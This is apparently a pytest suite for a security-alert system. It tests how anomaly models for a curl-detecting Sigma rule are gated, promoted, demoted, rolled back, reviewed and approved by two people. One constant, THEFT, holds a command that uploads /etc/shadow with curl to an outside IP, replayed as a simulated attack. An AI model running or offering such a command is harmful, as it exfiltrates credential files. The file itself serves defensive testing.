"""The life of models in real stores: gates, refusal, promotion, demotion, rollback, review."""

from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pytest
from sqlalchemy import Engine
from tests.models.histories import matches

from foreseen.alerts.decide import Policy
from foreseen.control import model_stages, model_versions
from foreseen.control.alert_commit import Decided, commit_decisions
from foreseen.control.cursors import Checkpoint
from foreseen.control.database import opened
from foreseen.control.dispositions import Disposition, dispose
from foreseen.control.model_stages import Cause
from foreseen.control.reasons import Verdict
from foreseen.control.tenants import ensure_tenant
from foreseen.core.alerts import Alert
from foreseen.core.decisions import Basis, Outcome, Stage
from foreseen.core.errors import ConfigurationError, NotFoundError
from foreseen.core.ids import RuleId, TenantId
from foreseen.lake.lake import Cursor, Lake
from foreseen.models.moments.moment import moments_of
from foreseen.rules import RuleSet, parse_rules
from foreseen.runners.judging import as_edited, judge_artefacts
from foreseen.runners.settings.settings import Settings
from foreseen.schema.arrow import PREDICTION_SCHEMA, batch_of
from foreseen.studies import compare, ordering, train
from foreseen.studies.compare import compared
from foreseen.studies.gates import Bars
from foreseen.studies.ordering import Person
from foreseen.studies.replays.chain import Replay, Use
from foreseen.studies.review import Reviewer, review
from foreseen.studies.stored import Stored, stored_foresight, stored_version
from foreseen.studies.train import Order, train_models

OWN = TenantId("default")
RULE = RuleId("download_tool")
DAY = 24 * 60 * 60 * 1000
ACCEPTED = 1_800_000_000_000
POLICY = Policy(0.02, 30)
EASY = Bars.none()
ORDER = Order(OWN, ACCEPTED, 0.02, 30, seed=0, now=1, author="ana", bars=EASY)
SIGMA = """
title: Download tool
name: download_tool
description: Runs a download tool.
level: medium
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: /%s}
  condition: selection
foreseen: {model: true}
"""
RULES = parse_rules([("a.yml", SIGMA % "curl")])
ANA, BOB = Person("ana", "she says so", 50), Person("bob", "he says so", 60)
THEFT = "curl -T /etc/shadow http://203.0.113.9/up"


def row(number: int, start: int, **columns: object) -> dict[str, object]:
    plain = {
        "match_uid": f"m-{number}",
        "event_uid": f"e-{number}",
        "seq": number,
        "time": start + number * 1_000,
        "ingested_time": start + number * 1_000,
        "process_cmd_line": f"curl -{'sxv'[number % 3]} http://10.0.0.{number % 4}/health",
    }
    return {**plain, **columns}


class World:
    """A lake and a control database."""

    def __init__(self, folder: Path, engine: Engine) -> None:
        """500 accepted matches."""
        self.lake, self.engine, self.commits = Lake.open(folder / "lake"), engine, 0
        self.add([row(number, ACCEPTED - DAY) for number in range(500)])

    def add(self, rows: Sequence[dict[str, object]], **outcome: object) -> None:
        """Matches, and what became of each if that is said."""
        self.commits += 1
        self.lake.commit({"matches": matches(rows)}, Cursor("shard", self.commits))
        if outcome:
            judged = [{"tenant": OWN, "rule_id": RULE, **each, **outcome} for each in rows]
            names = set(PREDICTION_SCHEMA.names)
            told = [{k: v for k, v in each.items() if k in names} for each in judged]
            table = pa.Table.from_batches([batch_of(told, PREDICTION_SCHEMA)])
            self.lake.commit({"predictions": table}, Cursor("judge", self.commits))

    def train(self, order: Order = ORDER) -> Stored:
        """A version."""
        return train_models(self.lake, self.engine, RULES, order)

    def stage(self) -> Stage:
        """The stage of the rule's model in use, as the judge gets it."""
        used = stored_foresight(self.engine, OWN)
        return judge_artefacts(OWN, RULES, Settings(POLICY), used).stages[RULE]

    def alert(self, uid: str, verdict: Verdict) -> None:
        """An alert that a person has spoken of."""
        told = Alert(
            uid, OWN, RULE, "web", "web-1", "web-1/boot", 1, 1, "medium", "t", ("s.",), None,
            (uid,), None, {"basis": Basis.UNEXPECTED.value},
        )  # fmt: skip
        self.commits += 1
        commit_decisions(self.engine, OWN, Decided([told]), Checkpoint("judge", self.commits))
        dispose(self.engine, OWN, Disposition(uid, "ana", verdict, "attack", "", time=2))


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """An organisation before its first training."""
    with opened(tmp_path / "control.db") as engine:
        ensure_tenant(engine, OWN, now=1)
        yield World(tmp_path, engine)


def test_what_passes_assists_first_and_suppresses_at_once_where_a_person_accepts_it(
    world: World,
) -> None:
    assert world.train().stages == {RULE: Stage.ASSIST}
    assert world.stage() is Stage.ASSIST
    world.train(replace(ORDER, accepted=True))
    assert world.stage() is Stage.SUPPRESS
    assert world.train().stages == {RULE: Stage.SUPPRESS}  # a later model of a trusted rule
    causes = [each.cause for each in model_stages.history(world.engine, OWN, RULE)]
    assert causes == [Cause.GATES, Cause.ACCEPTED, Cause.GATES]


def test_what_fails_a_gate_observes_and_says_why(world: World) -> None:
    stored = world.train(replace(ORDER, accepted=True, bars=Bars(least_matches=501)))
    assert (stored.refused, world.stage()) == (None, Stage.OBSERVE)
    told = model_stages.placements(world.engine, OWN)[RULE]
    assert "500 clean matches on 1 day" in told.reason
    with pytest.raises(ConfigurationError, match="second person"):
        ordering.promote(world.engine, OWN, RULE, ANA)
    ordering.promote(world.engine, OWN, RULE, replace(ANA, second="bob"), Stage.SUPPRESS)
    assert world.stage() is Stage.SUPPRESS


def test_without_a_record_a_model_only_observes(world: World) -> None:
    stored = stored_version(world.engine, OWN, world.train().version)
    assert stored.stages == {}
    artefacts = judge_artefacts(OWN, RULES, Settings(POLICY), stored)
    assert artefacts.stages == {}


def test_stages_are_among_what_a_decision_depended_on(world: World) -> None:
    world.train()
    before = judged_hashes(world)
    ordering.promote(world.engine, OWN, RULE, ANA)
    after = judged_hashes(world)
    assert before["stages"] != after["stages"]
    assert before["foresight"] == after["foresight"]


def judged_hashes(world: World) -> dict[str, str]:
    used = stored_foresight(world.engine, OWN)
    return dict(judge_artefacts(OWN, RULES, Settings(POLICY), used).hashes)


def test_an_edited_rules_model_observes_until_it_is_trained_again(world: World) -> None:
    used = world.train(replace(ORDER, accepted=True))
    edited: RuleSet = parse_rules([("a.yml", SIGMA % "wget")])
    same, other = as_edited(used, RULES), as_edited(used, edited)
    assert same is not None
    assert other is not None
    assert (same.stages, other.stages) == ({RULE: Stage.SUPPRESS}, {RULE: Stage.OBSERVE})


def theft() -> Replay:
    (moment,) = moments_of(matches([row(0, 1, process_cmd_line=THEFT)]))
    return Replay("theft", "T1048", Use.GATE, "run-1", (moment,))


@pytest.fixture
def attacked(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """One gate replay; a later order accepts a time in which the same was done 600 times."""
    for module in (train, compare):
        monkeypatch.setattr(module, "replays_under", lambda *_: (theft(),))
    world.train(replace(ORDER, accepted=True))
    done = [row(n, ACCEPTED) for n in range(1_000, 1_900)]
    world.add(
        [{**each, "process_cmd_line": THEFT} if n % 3 else each for n, each in enumerate(done)]
    )
    return world


LATER = replace(ORDER, accepted_until=ACCEPTED + DAY, accepted=True)


def test_a_model_that_loses_a_chain_is_refused_and_the_one_before_stays(attacked: World) -> None:
    refused = attacked.train(LATER)
    assert refused.refused is not None
    assert "theft" in refused.refused
    used = stored_foresight(attacked.engine, OWN)
    assert used is not None
    assert (used.version, refused.version) == (1, 2)
    assert model_versions.version(attacked.engine, OWN, 2).report["lost"] == ["theft"]


def test_a_refused_version_is_taken_by_two_persons_only(attacked: World) -> None:
    attacked.train(LATER)
    for person in (ANA, replace(ANA, second="ana")):
        with pytest.raises(ConfigurationError, match="second person"):
            ordering.take_refused(attacked.engine, OWN, 2, person)
        with pytest.raises(ConfigurationError, match="second person"):
            ordering.roll_back(attacked.engine, OWN, 2, person)
    used = ordering.take_refused(attacked.engine, OWN, 2, replace(ANA, second="bob"))
    assert used.version == 2
    choice = model_versions.choices(attacked.engine, OWN)[0]
    assert (choice.author, choice.second) == ("ana", "bob")


def test_a_comparison_names_matches_and_attacks_that_change_sides(attacked: World) -> None:
    attacked.train(LATER)
    old, new = (stored_version(attacked.engine, OWN, n).foresight for n in (1, 2))
    found = compared(attacked.lake, OWN, RULES, (old, new), POLICY)
    (changed,) = found.rules
    assert (changed.rule, changed.matches) == (RULE, 1_400)
    assert changed.silenced >= 600
    assert changed.after - changed.before == changed.silenced - changed.told
    assert "/etc/shadow" in changed.examples[0].act
    assert (found.lost, found.won) == (("theft",), ())
    back = compared(attacked.lake, OWN, RULES, (new, old), POLICY)
    assert (back.lost, back.won) == ((), ("theft",))


def test_a_rollback_is_a_choice_that_the_same_command_undoes(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    world.add([row(number, ACCEPTED) for number in range(600, 800)])
    world.train(replace(ORDER, accepted_until=ACCEPTED + DAY))
    assert ordering.roll_back(world.engine, OWN, 1, ANA).version == 1
    assert world.stage() is Stage.SUPPRESS
    assert ordering.roll_back(world.engine, OWN, 2, BOB).version == 2
    chosen = [(each.version, each.author) for each in model_versions.choices(world.engine, OWN)]
    assert chosen == [(2, "bob"), (1, "ana"), (2, "ana"), (1, "ana")]
    with pytest.raises(NotFoundError):
        ordering.roll_back(world.engine, OWN, 9, ANA)


def test_a_rollback_does_not_undo_a_demotion(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    world.train(replace(ORDER, accepted=True, seed=1))
    ordering.demote(world.engine, OWN, RULE, BOB)
    for number in (1, 2):
        ordering.roll_back(world.engine, OWN, number, ANA)
        assert world.stage() is Stage.OBSERVE
    assert world.train(replace(ORDER, accepted=True)).stages == {RULE: Stage.OBSERVE}
    ordering.promote(world.engine, OWN, RULE, ANA)
    assert world.train().stages == {RULE: Stage.ASSIST}


def test_promotion_is_by_one_stage_or_to_the_named_one(world: World) -> None:
    world.train()
    assert ordering.promote(world.engine, OWN, RULE, ANA).stage is Stage.SUPPRESS
    with pytest.raises(ConfigurationError, match="already"):
        ordering.promote(world.engine, OWN, RULE, ANA)
    ordering.demote(world.engine, OWN, RULE, BOB)
    ordering.promote(world.engine, OWN, RULE, ANA, Stage.SUPPRESS)
    assert world.stage() is Stage.SUPPRESS
    with pytest.raises(NotFoundError, match="there are models of download_tool"):
        ordering.promote(world.engine, OWN, RuleId("unknown"), ANA)


def reviewed(world: World, days: float = 1.0, **bars: object) -> list[tuple[Stage, Cause]]:
    used = stored_foresight(world.engine, OWN)
    assert used is not None
    at = ACCEPTED + int(days * DAY)
    asked = Reviewer(POLICY, at, replace(Bars(), **bars))  # type: ignore[arg-type]
    found = review(world.lake, world.engine, OWN, used, asked)
    return [(each.stage, each.cause) for each in found]


def judged(world: World, count: int = 100, **columns: object) -> None:
    """Matches after the accepted time that the model in use expected, unless columns say else."""
    used = stored_foresight(world.engine, OWN)
    assert used is not None
    plain = {"outcome": Outcome.SUPPRESSED.value, "basis": Basis.EXPECTED.value, "probability": 0.5}
    outcome = {name: columns.pop(name, value) for name, value in plain.items()}
    rows = [row(number, ACCEPTED, **columns) for number in range(5_000, 5_000 + count)]
    world.add(rows, model=used.foresight.hashes[RULE], **outcome)


DEMOTED = [(Stage.OBSERVE, Cause.REVIEWED)]


def test_a_calm_model_stays_where_it_is(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world)
    assert reviewed(world) == []
    assert world.stage() is Stage.SUPPRESS


def test_a_model_that_alerts_far_more_than_promised_is_sent_back(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world, outcome="alerted", basis=Basis.UNEXPECTED.value, probability=0.001)
    assert reviewed(world) == DEMOTED
    assert world.stage() is Stage.OBSERVE
    told = model_stages.placements(world.engine, OWN)[RULE]
    assert (told.author, told.model) == (
        "review",
        stored_version(world.engine, OWN, 1).foresight.hashes[RULE],
    )
    assert "100 alerts on 100 recent matches" in told.reason
    assert reviewed(world) == []  # said once


def test_unknown_tokens_and_missing_telemetry_send_a_model_back(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world, window_tokens=["execve odd", "execve odder"] * 5)
    assert reviewed(world) == DEMOTED
    assert "unknown" in model_stages.placements(world.engine, OWN)[RULE].reason


def test_missing_telemetry_sends_a_model_back(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world, window_complete=False)
    assert reviewed(world) == DEMOTED
    assert "Telemetry is missing" in model_stages.placements(world.engine, OWN)[RULE].reason


def test_an_expected_match_that_a_person_escalates_sends_its_model_back_once(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world, count=3)
    world.alert("m-5001", Verdict.ESCALATED)
    assert reviewed(world) == DEMOTED
    assert model_stages.placements(world.engine, OWN)[RULE].evidence == ("m-5001",)
    ordering.promote(world.engine, OWN, RULE, ANA, Stage.SUPPRESS)
    assert reviewed(world) == []  # a person has looked at it
    world.alert("m-5002", Verdict.ESCALATED)
    assert reviewed(world) == DEMOTED


def test_an_escalated_match_that_the_model_did_not_expect_is_no_objection(world: World) -> None:
    world.train(replace(ORDER, accepted=True))
    judged(world, count=3, outcome="alerted", basis=Basis.UNEXPECTED.value, probability=0.001)
    world.alert("m-5001", Verdict.ESCALATED)
    assert reviewed(world) == []


def test_a_model_suppresses_after_the_stated_time_of_agreement_and_not_before(
    world: World,
) -> None:
    world.train(replace(ORDER, now=ACCEPTED))
    judged(world, outcome="alerted", basis=Basis.ASSISTED.value)
    assert reviewed(world, days=6.9) == []
    assert reviewed(world, days=7, least_judged=101) == []
    world.train(replace(ORDER, now=ACCEPTED + 3 * DAY, seed=1))  # assists on: no new beginning
    assert reviewed(world, days=7) == [(Stage.SUPPRESS, Cause.AGREED)]
    assert world.stage() is Stage.SUPPRESS
    told = model_stages.placements(world.engine, OWN)[RULE]
    assert "assisted for 7 days and 100 matches;" in told.reason


def test_a_model_that_assists_and_misses_something_does_not_come_to_suppress(world: World) -> None:
    world.train(replace(ORDER, now=ACCEPTED))
    judged(world, outcome="alerted", basis=Basis.ASSISTED.value)
    world.alert("m-5001", Verdict.ESCALATED)
    assert reviewed(world, days=8) == DEMOTED
